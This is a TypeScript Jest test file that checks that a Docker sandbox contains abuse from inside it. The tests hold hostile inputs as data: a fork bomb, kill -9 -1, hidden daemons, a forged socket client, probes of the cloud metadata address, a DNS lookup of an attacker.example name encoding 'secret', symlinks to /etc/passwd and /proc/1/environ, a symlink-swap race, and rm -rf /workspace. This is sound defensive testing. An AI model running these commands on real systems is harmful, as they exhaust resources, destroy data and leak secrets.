import { readFile, readdir } from 'node:fs/promises';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { AppError } from '../../contracts/app-error.ts';
import { dockerForTests } from '../harness/docker.ts';
import { describeUnless } from '../harness/not-run.ts';
import { until } from '../harness/until.ts';
import { openBench, run, shell, specOf } from './docker-fixture.ts';
import type { DockerDriver } from '../../adapters/sandbox/docker/docker-driver.ts';
import type { Sandbox } from '../../adapters/sandbox/port.ts';
import type { DriverBench, Ran } from './docker-fixture.ts';

const { reason, socketPath } = await dockerForTests(['base']);

const LIMITS = { memoryMb: 256, cpus: 1, pids: 48, diskMb: 32 };
const MIB = 1024 * 1024;
const FORKS = `
import os
while True:
    try:
        os.fork()
    except OSError:
        pass`;

/** Processes of the host whose command line holds the text. */
async function processesOf(text: string): Promise<readonly string[]> {
  const pids = (await readdir('/proc')).filter((name) => /^\d+$/.test(name));
  const commands = await Promise.all(
    pids.map((pid) => readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '')),
  );
  return pids.filter((_, index) => commands[index]?.includes(text));
}

describeUnless(reason, 'abuse from inside a sandbox of Docker', () => {
  let bench: DriverBench;
  let driver: DockerDriver;
  let sandbox: Sandbox;

  beforeAll(async () => {
    bench = await openBench(socketPath);
    driver = bench.open();
    sandbox = await driver.create(specOf({ limits: LIMITS }));
  });
  afterAll(async () => bench[Symbol.asyncDispose]());

  const python = (script: string): Promise<Ran> => run(sandbox, ['python3', '-c', script]);
  const isUsable = async (): Promise<void> =>
    expect(await shell(sandbox, 'echo alive')).toMatchObject({ stdout: 'alive\n', exitCode: 0 });

  test.each([
    ['a bomb of forks', `exec python3 -c '${FORKS}'`],
    ['a stop of everything', 'kill -STOP -1; sleep 60'],
    ['a command that ignores all requests to end', 'trap "" TERM INT HUP; while :; do :; done'],
  ])('%s ends at its deadline, and what comes after works', async (_what, line) => {
    const ran = await run(sandbox, ['sh', '-c', line], { deadlineMs: 1_000 });
    expect(ran.end).toBe('deadline');
    await until('the end of its processes', async () => (await sandbox.metrics()).pids <= 2);
    await isUsable();
  });

  test('a kill of everything ends the commands, not the sandbox', async () => {
    const other = run(sandbox, ['sleep', '60']);
    await shell(sandbox, 'kill -9 -1');
    expect(await other).toMatchObject({ end: 'signal', signal: 'SIGKILL' });
    await isUsable();
  });

  test('signals to the first process change nothing', async () => {
    await shell(
      sandbox,
      'for s in STOP KILL TERM INT HUP USR1 SEGV; do kill -$s 1; done; sleep 0.1',
    );
    await isUsable();
  });

  test('what hides as a daemon is gone with its command, and with its sandbox', async () => {
    const mark = String(100_000 + Math.floor(Math.random() * 900_000));
    const hide = `(env -i setsid nohup sh -c '(sleep ${mark} &)' >/dev/null 2>&1 &); sleep 0.2`;
    await shell(sandbox, hide);
    expect(await processesOf(mark)).toEqual([]);
    const doomed = await driver.create(specOf({ limits: LIMITS }));
    await doomed.exec({
      ...{ commandId: 'hide', argv: ['sh', '-c', `${hide}; sleep 60`] },
      ...{ deadlineMs: 60_000, maxOutputBytes: 0 },
    });
    await until('the daemon', async () => (await processesOf(mark)).length > 0);
    await doomed.kill();
    expect(await processesOf(mark)).toEqual([]);
  });

  test('a forged client is hung up on before the first byte, and keeps nobody else out', async () => {
    const { stdout } = await python(`
import json, socket, struct, zlib
def frame(kind, number, value):
    payload = json.dumps(value).encode()
    head = struct.pack('>HBBII', 0x4846, kind, 0, number, len(payload))
    return head + struct.pack('>I', zlib.crc32(head)) + payload
answers = set()
for _ in range(200):
    with socket.socket(socket.AF_UNIX) as client:
        client.connect('/run/holdfast/runner.sock')
        try:
            client.sendall(frame(1, 0, {'version': 1, 'nonce': 'x'}))
            client.sendall(frame(2, 1, {'op': 'extend', 'ttlMs': 10 ** 9, 'credit': 1000}))
            answers.add(client.recv(100))
        except (BrokenPipeError, ConnectionResetError):
            answers.add(b'')
print(answers)`);
    expect(stdout).toBe("{b''}\n");
    await isUsable();
    const other = await bench.open().connect(sandbox.id);
    expect(await shell(other, 'echo alive')).toMatchObject({ stdout: 'alive\n' });
  });

  test('nobody traces, opens raw sockets or reaches an address, the metadata service included', async () => {
    const { stdout } = await python(`
import ctypes, errno, os, socket
libc = ctypes.CDLL(None, use_errno=True)
print('ptrace', libc.ptrace(16, 1, 0, 0), errno.errorcode[ctypes.get_errno()])
def attempt(name, work):
    try:
        work()
        print(name, 'worked')
    except OSError as error:
        print(name, errno.errorcode.get(error.errno, type(error).__name__))
attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
attempt('netlink', lambda: os.listdir('/proc/1/fd'))
for host in ('169.254.169.254', '172.17.0.1', '192.168.0.1', '8.8.8.8'):
    attempt(host, lambda: socket.create_connection((host, 80), 2))
attempt('v6', lambda: socket.create_connection(('fd00:ec2::254', 80), 2))
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt('udp', lambda: udp.sendto(b'x', ('8.8.8.8', 53)))
`);
    expect(stdout.trim().split('\n')).toEqual([
      'ptrace -1 EPERM',
      'raw EPERM',
      'packet EPERM',
      'netlink EACCES',
      '169.254.169.254 ENETUNREACH',
      '172.17.0.1 ENETUNREACH',
      '192.168.0.1 ENETUNREACH',
      '8.8.8.8 ENETUNREACH',
      expect.stringMatching(/^v6 (ENETUNREACH|EADDRNOTAVAIL|EAFNOSUPPORT)$/),
      'udp ENETUNREACH',
    ]);
  });

  test('names are not looked up anywhere: nothing leaves through a resolver', async () => {
    const { stdout } = await python(`
import socket, time
began = time.monotonic()
for name in ('c2VjcmV0.attacker.example', 'localhost.attacker.example'):
    try:
        print(socket.getaddrinfo(name, 80))
    except socket.gaierror as error:
        print('failed')
print('slow' if time.monotonic() - began > 10 else 'quick')
`);
    expect(stdout).toBe('failed\nfailed\nquick\n');
  });

  test('links lead no file operation out of the workspace', async () => {
    const { files } = sandbox;
    await shell(sandbox, 'ln -s /etc/passwd pw; ln -s /etc etc; ln -s /proc/1/environ env');
    const refused = { code: 'sandbox.bad_path' };
    for (const path of ['pw', 'etc/passwd', 'env', 'etc/new']) {
      await expect(files.read(path)).rejects.toMatchObject(refused);
    }
    await expect(files.write('etc/new', Buffer.from('x'))).rejects.toMatchObject(refused);
    await expect(files.list('etc')).rejects.toMatchObject(refused);
    expect(await files.list()).toEqual([
      { kind: 'link', path: 'env', target: '/proc/1/environ' },
      { kind: 'link', path: 'etc', target: '/etc' },
      { kind: 'link', path: 'pw', target: '/etc/passwd' },
    ]);
    await files.write('pw', Buffer.from('mine'));
    expect((await files.read('pw')).toString()).toBe('mine');
    await files.remove('');
  });

  test('a folder that turns into a link again and again never shows what is behind it', async () => {
    await shell(sandbox, 'mkdir real; echo mine > real/passwd; ln -s /etc link');
    const swapping = await sandbox.exec({
      ...{ commandId: 'swap', deadlineMs: 60_000, maxOutputBytes: 0 },
      argv: [
        'sh',
        '-c',
        'while :; do mv -T real d; mv -T d real; mv -T link d; mv -T d link; done',
      ],
    });
    const seen = new Map<string, number>();
    for (let tries = 0; tries < 200; tries += 1) {
      const found = await sandbox.files.read('d/passwd').then(
        (bytes) => bytes.toString(),
        (error: unknown) => (error instanceof AppError ? error.code : String(error)),
      );
      seen.set(found, (seen.get(found) ?? 0) + 1);
    }
    await swapping.signal('SIGKILL');
    const allowed = ['mine\n', 'sandbox.bad_path', 'sandbox.file_not_found'];
    expect([...seen.keys()].filter((found) => !allowed.includes(found))).toEqual([]);
    await sandbox.files.remove('');
  });

  test('a gigabyte of output costs the worker no memory, is counted and called cut off', async () => {
    const before = process.memoryUsage.rss();
    let most = before;
    const timer = setInterval(() => (most = Math.max(most, process.memoryUsage.rss())), 20);
    const argv = ['head', '-c', '1000000000', '/dev/zero'];
    const ran = await run(sandbox, argv, { maxOutputBytes: 100_000, deadlineMs: 60_000 });
    clearInterval(timer);
    expect(ran).toMatchObject({ end: 'exit', stdoutBytes: 1_000_000_000, truncated: true });
    expect(ran.stdout).toHaveLength(100_000);
    expect(most - before).toBeLessThan(64 * MIB);
  });

  test('output of all bytes arrives as it was', async () => {
    await using command = await sandbox.exec({
      ...{ commandId: 'bytes', deadlineMs: 20_000, maxOutputBytes: MIB },
      argv: ['python3', '-c', 'import os; os.write(1, bytes(range(256)) * 100)'],
    });
    const chunks: Uint8Array[] = [];
    for await (const { bytes } of command.output) chunks.push(bytes);
    expect(Buffer.concat(chunks)).toEqual(
      Buffer.from(Array.from({ length: 25_600 }, (_, index) => index % 256)),
    );
  });

  test('a command that closes its output runs on, and tells how it ended', async () => {
    const ran = await shell(sandbox, 'echo said; exec >&- 2>&-; sleep 0.3; exit 3');
    expect(ran).toMatchObject({ end: 'exit', exitCode: 3, stdout: 'said\n' });
  });

  test('10,000 files are listed, more than 20,000 refused', async () => {
    const fill = (from: number, to: number): string =>
      `import os; os.makedirs("d", exist_ok=True); [open(f"d/{n}", "w").close() for n in range(${from}, ${to})]`;
    await python(fill(0, 10_000));
    expect(await sandbox.files.list()).toHaveLength(10_001);
    await python(fill(10_000, 20_000));
    await expect(sandbox.files.list()).rejects.toMatchObject({ code: 'sandbox.too_many_files' });
    await sandbox.files.remove('d');
    expect(await sandbox.files.list()).toEqual([]);
  });

  test('names with a newline are names, those that are no Unicode are left out', async () => {
    await python(`
import os
open("a\\nb", "w").write("x")
open("-rf", "w").close()
os.mkdir("d")
open(b"d/\\xff\\xfe", "w").close()`);
    const found = await sandbox.files.list();
    expect(found.map(({ path }) => path)).toEqual(['-rf', 'a\nb', 'd']);
    expect((await sandbox.files.read('a\nb')).toString()).toBe('x');
    await sandbox.files.remove('');
    expect((await shell(sandbox, 'ls -A')).stdout).toBe('');
  });

  test('its workspace cannot be taken away, only emptied', async () => {
    await shell(sandbox, 'rm -rf /workspace; mv /workspace /tmp/w; rmdir /workspace');
    await sandbox.files.write('after', Buffer.from('x'));
    expect(await shell(sandbox, 'pwd; cat after')).toMatchObject({ stdout: '/workspace\nx' });
  });

  test('a workspace that is closed by its owner is opened again', async () => {
    await shell(sandbox, 'mkdir closed; touch closed/x; chmod 0 closed .');
    await isUsable();
    await sandbox.files.write('after', Buffer.from('x'));
    expect((await sandbox.files.list()).map(({ path }) => path)).toContain('after');
  });

  test('a full /tmp leaves commands, files and enough of the output', async () => {
    const fill = 'cat /dev/zero > /tmp/full; echo "filled" >&2';
    expect(await shell(sandbox, fill)).toMatchObject({ stderr: expect.stringContaining('filled') });
    await isUsable();
    await sandbox.files.write('after', Buffer.from('x'));
    const much = await shell(sandbox, 'head -c 1000000 /dev/zero');
    expect(much).toMatchObject({ end: 'exit', stdoutBytes: 1_000_000, truncated: true });
    expect(much.stdout.length).toBeGreaterThan(10_000);
    expect(await shell(sandbox, 'rm /tmp/full; cat after')).toMatchObject({ stdout: 'x' });
  });
});
